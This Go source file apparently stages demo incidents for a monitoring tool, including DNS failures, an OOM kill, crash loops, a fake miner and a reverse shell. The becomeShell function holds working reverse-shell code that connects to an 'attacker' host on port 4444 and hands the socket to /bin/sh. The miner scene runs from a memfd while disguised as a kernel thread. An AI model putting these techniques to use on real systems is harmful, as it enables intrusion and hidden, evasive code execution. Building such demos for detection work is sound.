// SPDX-License-Identifier: Apache-2.0

package demo

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// The shell, which every system has.
const shell = "/bin/sh"

// reverseShell: see [inside.becomeShell].
func (s *inside) reverseShell() error { return s.run("updater", "become-shell") }

// miner runs from memory, under the name of a kernel thread.
func (s *inside) miner() error {
	c := exec.Command(s.self, Verb, s.dir, "mine")
	c.Args[0] = "[kworker/u8:1]"
	c.Path = "/proc/self/fd/3"
	c.Stderr = os.Stderr
	memory, err := memfd(s.self)
	if err != nil {
		return err
	}
	defer memory.Close()
	c.ExtraFiles = []*os.File{memory}
	return c.Run()
}

func memfd(file string) (*os.File, error) {
	source, err := os.Open(file)
	if err != nil {
		return nil, err
	}
	defer source.Close()
	fd, err := unix.MemfdCreate("kworker", 0)
	if err != nil {
		return nil, fmt.Errorf("memfd_create: %w", err)
	}
	memory := os.NewFile(uintptr(fd), "kworker")
	if _, err := io.Copy(memory, source); err != nil {
		memory.Close()
		return nil, fmt.Errorf("fill a memfd: %w", err)
	}
	// What can be written to cannot be executed: only the reopened one stays.
	defer memory.Close()
	return os.Open(fmt.Sprintf("/proc/self/fd/%d", fd))
}

func (s *inside) dnsFailure() error { return s.run("backup", "ask") }

// oom is over when the kernel has killed the cache.
func (s *inside) oom() error {
	err := s.run("cache", "grow")
	var exit *exec.ExitError
	if errors.As(err, &exit) && exit.Sys().(syscall.WaitStatus).Signal() == syscall.SIGKILL {
		return nil
	}
	return fmt.Errorf("the cache was not killed: %w", err)
}

func (s *inside) crashLoop() error {
	for range crashes {
		err := exec.Command(shell, "-c", "kill -SEGV $$").Run()
		if exit := new(exec.ExitError); !errors.As(err, &exit) {
			return fmt.Errorf("the worker did not crash: %w", err)
		}
		time.Sleep(50 * time.Millisecond)
	}
	return nil
}

// act is one of the scenes' programs.
func (s *inside) act(args []string) error {
	switch args[0] {
	case "become-shell":
		return becomeShell()
	case "mine":
		return mine()
	case "ask":
		return ask()
	case "grow":
		return grow()
	}
	return fmt.Errorf("no act is called %q", args[0])
}

// becomeShell connects to the attacker and gives the connection to a shell.
func becomeShell() error {
	conn, err := dial(context.Background(), "tcp", attacker, "4444")
	if err != nil {
		return err
	}
	file, err := conn.(*net.TCPConn).File()
	if err != nil {
		return err
	}
	conn.Close()
	for fd := range 3 {
		if err := unix.Dup2(int(file.Fd()), fd); err != nil {
			return err
		}
	}
	file.Close()
	return unix.Exec(shell, []string{"sh"}, os.Environ())
}

// mine asks for the pool's name, connects, and sends what a miner would.
func mine() error {
	if err := os.WriteFile("/proc/self/comm", []byte("kworker/u8:1"), 0); err != nil {
		return err
	}
	addresses, err := resolver.LookupNetIP(context.Background(), "ip4", poolName+".")
	if err != nil {
		return err
	}
	conn, err := dial(context.Background(), "tcp", addresses[0].String(), "3333")
	if err != nil {
		return err
	}
	defer conn.Close()
	for id := range 5 {
		share := fmt.Sprintf(`{"id":%d,"method":"mining.submit","params":["skep-demo","%064x"]}`+"\n", id, id)
		if _, err := io.WriteString(conn, share); err != nil {
			return err
		}
		if _, err := io.ReadFull(conn, make([]byte, len(accepted))); err != nil {
			return err
		}
		time.Sleep(100 * time.Millisecond)
	}
	return nil
}

// ask asks for names and is content without an answer.
func ask() error {
	ctx, cancel := context.WithTimeout(context.Background(), time.Second)
	defer cancel()
	for _, name := range []string{missingName, silentName} {
		_, _ = resolver.LookupNetIP(ctx, "ip4", name+".")
	}
	return nil
}

// grow takes memory until it is killed.
func grow() error {
	var kept [][]byte
	for range 4 * oomRoom >> 20 {
		block := make([]byte, 1<<20)
		for i := 0; i < len(block); i += os.Getpagesize() {
			block[i] = 1
		}
		kept = append(kept, block)
	}
	return fmt.Errorf("%d MiB were granted", len(kept))
}
